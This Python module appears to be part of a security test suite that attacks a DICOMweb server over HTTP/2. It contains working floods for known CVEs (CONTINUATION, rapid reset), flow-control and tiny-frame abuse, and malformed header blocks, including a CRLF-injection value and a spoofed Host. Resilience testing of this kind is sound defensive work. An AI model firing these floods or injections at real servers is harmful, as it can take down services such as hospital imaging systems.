"""What only HTTP/2 lets a web client try: windows, resets, settings, heads (RFC 9113)."""

import struct
import time

from attack_rows import attack
from attack_site import Succeeded, stopped
from attack_wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS,
                         WINDOW_UPDATE, Http2, frame, literal, multipart, setting)

WHO = "Web clients"
INITIAL_WINDOW, TABLE = 4, 1


def flooded(site, what, begin, more, most=64 << 20):
    """Writes `more` over and over, and tells how much was taken before the connection ended, and how it ended."""
    client = Http2(site)
    written = 0
    try:
        client.say(begin)
        client.sock.settimeout(5)
        while written < most:
            client.say(more)
            written += len(more)
        raise Succeeded(f"{what}: {written >> 20} MiB are taken")
    except TimeoutError:
        pass  # it is not read any more, which holds nobody up but the one who writes
    except OSError:
        pass
    try:
        how = client.ends(10)
    except TimeoutError:
        how = "not read any more"
    client.close()
    return f"{what}: {how} after {written >> 10} KiB"


@attack(WHO, "CONTINUATION without end (CVE-2024-27316)")
def continuation(site):
    client = Http2(site)
    begin = frame(HEADERS, END_STREAM, 1, client.fields("/health/live"))
    client.close()
    field = literal("a", "b" * 1024)
    return "; ".join([
        flooded(site, "of fields", begin,
                frame(CONTINUATION, 0, 1, field) * 16),
        flooded(site, "of nothing", begin,
                frame(CONTINUATION, 0, 1) * 1000),
        flooded(site, "of one field", begin,
                frame(CONTINUATION, 0, 1, literal("cookie", "a=b")) * 500)
    ])


@attack(WHO, "Rapid resets (CVE-2023-44487), and made by mistakes (CVE-2025-8671)")
def rapid_resets(site):
    seen = []
    for what, reset in (("by the client", lambda n: frame(RST_STREAM, 0, n, struct.pack(">I", 8))),
                        ("by a window of nothing", lambda n: frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0))),
                        ("by a window too large", lambda n: frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7FFFFFFF))),
                        ("by data after the end", lambda n: frame(DATA, 0, n, b"x"))):
        client = Http2(site)
        token = site.tokens["viewer"]
        flood = b"".join(client.get(2 * n + 1, f"/dicom-web/studies?PatientID={n}", token=token) + reset(2 * n + 1) for n in range(5000))
        try:
            client.say(flood)
        except OSError:
            pass
        try:
            seen.append(f"{what}: {client.ends()}")
        except TimeoutError:
            raise Succeeded(f"{what}: the connection stays") from None
        client.close()
    return "; ".join(seen)


@attack(WHO, "Floods of SETTINGS, PING, PRIORITY, windows, empty frames")
def floods(site):
    client = Http2(site)
    ask_for = client.get(1, "/health/live")
    client.close()
    seen = []
    for what, more in {
            "SETTINGS": frame(SETTINGS, payload=setting(INITIAL_WINDOW, 1000)) * 500,
            "tables": frame(SETTINGS, payload=setting(TABLE, 0xFFFFFFFF)) * 500, "PING": frame(PING, payload=bytes(8)) * 500
    }.items():
        # Each has to be answered; whoever reads no answer is not read.
        seen.append(flooded(site, what, b"", more))
    for what, more in {
            "PRIORITY": frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1)) * 1000, "unknown frames": frame(77, 0, 0, bytes(1000)) * 50,
            "answers to PING": frame(PING, 1, 0, bytes(8)) * 500
    }.items():
        client, begin = Http2(site), time.monotonic()
        written = 0
        try:
            while written < 8 << 20:
                client.say(more)
                written += len(more)
            client.say(ask_for)
            seen.append(f"{what}: {client.status(1)} after {written >> 20} MiB")
        except OSError:
            seen.append(f"{what}: closed after {written >> 10} KiB")
        client.close()
        stopped(time.monotonic() - begin < 15, f"{what}: {time.monotonic() - begin:.1f} s")
    return "; ".join(seen)


@attack(WHO, "Windows: none, of one byte, beyond the largest, given back and taken")
def windows(site):
    token, study = site.tokens["viewer"], f"/dicom-web/studies/{site.study}"
    seen, begin = [], time.monotonic()
    held = []
    for window in (0, 1):
        client = Http2(site, setting(INITIAL_WINDOW, window))
        for stream in range(1, 33, 2):
            client.say(client.get(stream, study, token=token, accept='multipart/related; type="application/dicom"; transfer-syntax=*'))
        held.append(client)
    for client in held:
        resets = 0
        while resets < 16:
            got = client.next()
            if got is None or got[0] == GOAWAY:
                break
            resets += got[0] == RST_STREAM
        seen.append(f"{resets} streams reset")
        client.close()
    seen.append(f"within {time.monotonic() - begin:.0f} s")
    for what, data in {
            "beyond the largest": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2,
            "of nothing": frame(WINDOW_UPDATE, 0, 0, bytes(4)), "a setting beyond it": frame(SETTINGS,
                                                                                             payload=setting(INITIAL_WINDOW, 0x80000000))
    }.items():
        client = Http2(site)
        client.say(data)
        seen.append(f"{what}: {client.ends()}")
        client.close()
    # Negative windows, over and over.
    client = Http2(site)
    client.say(client.get(1, study, token=token, accept='multipart/related; type="application/dicom"; transfer-syntax=*'))
    try:
        for _ in range(200):
            client.say(frame(SETTINGS, payload=setting(INITIAL_WINDOW, 0)) + frame(SETTINGS, payload=setting(INITIAL_WINDOW, 100)))
    except OSError:
        pass
    client.close()
    return "; ".join(seen)


@attack(WHO, "Bodies in frames of one byte, of none, and with padding alone")
def small_frames(site):
    kind, body = multipart(b"x" * 2000)
    fields = dict(content_type=kind.partition(": ")[2].strip(), token=site.tokens["sender"], method="POST", accept="application/dicom+json")
    seen = []
    for what, flood in {
            "of one byte": b"".join(frame(DATA, 0, 1, body[n:n + 1]) for n in range(len(body))) + frame(DATA, END_STREAM, 1),
            "empty": frame(DATA, 0, 1) * 200_000 + frame(DATA, END_STREAM, 1, body),
            "padding": frame(DATA, 8, 1, b"\xff" + bytes(255)) * 20_000 + frame(DATA, END_STREAM, 1, body)
    }.items():
        client, begin = Http2(site), time.monotonic()
        try:
            client.say(client.get(1, "/dicom-web/studies", flags=END_HEADERS, **fields))
            client.sock.settimeout(8)
            client.say(flood)
            seen.append(f"{what}: {client.status(1)}")
        except TimeoutError:
            seen.append(f"{what}: not read any more")
        except OSError:
            seen.append(f"{what}: closed")
        client.close()
        stopped(time.monotonic() - begin < 20, f"{what}: {time.monotonic() - begin:.1f} s")
    return "; ".join(seen)


@attack(WHO, "Fields that HTTP/2 forbids, doubled or made of line ends")
def fields(site):
    token = site.tokens["viewer"]
    basic = literal(":method", "GET") + literal(":scheme", "https") + literal(":authority", "localhost") + literal(
        ":path", "/dicom-web/studies")
    named = literal("authorization", f"Bearer {token}")
    cases = {
        "Transfer-Encoding": basic + named + literal("transfer-encoding", "chunked"),
        "Connection": basic + named + literal("connection", "close"),
        "upper case": basic + named + literal("Accept", "*/*"),
        "line ends": basic + named + literal("x", "a\r\nX-Evil: 1"),
        "a nul": basic + named + literal("x", "a\0b"),
        "two paths": basic + literal(":path", "/metrics") + named,
        "no path": literal(":method", "GET") + literal(":scheme", "https") + named,
        "a pseudo-field behind": basic + named + literal(":path", "/metrics"),
        "an unknown one": basic + literal(":evil", "1") + named,
        "a path with a space": basic.replace(b"/dicom-web/studies", b"/dicom web/studies") + named,
        "a length of another body": basic + named + literal("content-length", "5"),
        "two lengths": basic + named + literal("content-length", "0") + literal("content-length", "7"),
        "Host and :authority": basic + named + literal("host", "evil.example"),
        "an index beyond the table": b"\xff\xff\xff\xff\x7f",
        "an endless integer": b"\x7f" + b"\xff" * 200,
        "a huge table": b"\x3f\xff\xff\xff\x7f" + basic,
        "bad Huffman": basic + b"\0\x01a\x85" + b"\xff" * 5,
        "two tokens": basic + literal("authorization", "Bearer x") + named,
    }
    seen = {}
    for what, block in cases.items():
        client = Http2(site)
        client.say(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        got = client.status(1)
        seen.setdefault(got, []).append(what)
        stopped(got != 200 or what in ("Host and :authority", ), f"{what}: {got}")
        stopped(not isinstance(got, int) or got < 500, f"{what}: {got}")
        client.close()
    return "; ".join(f"{how}: {', '.join(what)}" for how, what in seen.items())


@attack(WHO, "Frames out of order: on closed, even, foreign streams; pushed; too long")
def order(site):
    client = Http2(site)
    get = client.get(1, "/health/live")
    client.close()
    cases = {
        "an even stream": get.replace(struct.pack(">I", 1), struct.pack(">I", 2),
                                      1), "stream 0": frame(HEADERS, 5, 0, b"\x82"), "data of nobody": frame(DATA, 1, 5, b"x"),
        "a push": frame(PUSH_PROMISE, 4, 1,
                        bytes(4)), "too long": frame(DATA, 0, 1,
                                                     bytes(20_000)), "a lower stream": get.replace(b"\0\0\0\1", b"\0\0\0\x09", 1) + get,
        "a head in a head": frame(HEADERS, 1, 1, b"\x82") + get, "padding beyond": frame(HEADERS, 13, 1, b"\xff\x82"),
        "itself before it": frame(PRIORITY, 0, 3, struct.pack(">IB", 3, 1)), "a short PING": frame(PING, 0, 0, b"abc"),
        "odd SETTINGS": frame(SETTINGS, 0, 0, b"abc"), "SETTINGS of a stream": frame(SETTINGS, 0,
                                                                                     1), "a frame of 16 MiB": b"\xff\xff\xff\0\0\0\0\0\1"
    }
    seen = {}
    for what, data in cases.items():
        client = Http2(site)
        client.say(data)
        try:
            how = client.ends(10)
        except TimeoutError:
            raise Succeeded(f"{what}: still open") from None
        seen.setdefault(how, []).append(what)
        client.close()
    return "; ".join(f"{how}: {', '.join(what)}" for how, what in seen.items())


@attack(WHO, "More streams than there may be")
def streams(site):
    client = Http2(site)
    try:
        client.say(b"".join(client.get(2 * n + 1, f"/dicom-web/studies?PatientID=x{n}", token=site.tokens["viewer"]) for n in range(1000)))
    except OSError:
        pass  # it is closed before all of them are written
    try:
        how = client.ends(20)
    except TimeoutError:
        how = "served up to the limit"
    client.close()
    return f"of 1,000 at once: {how}"
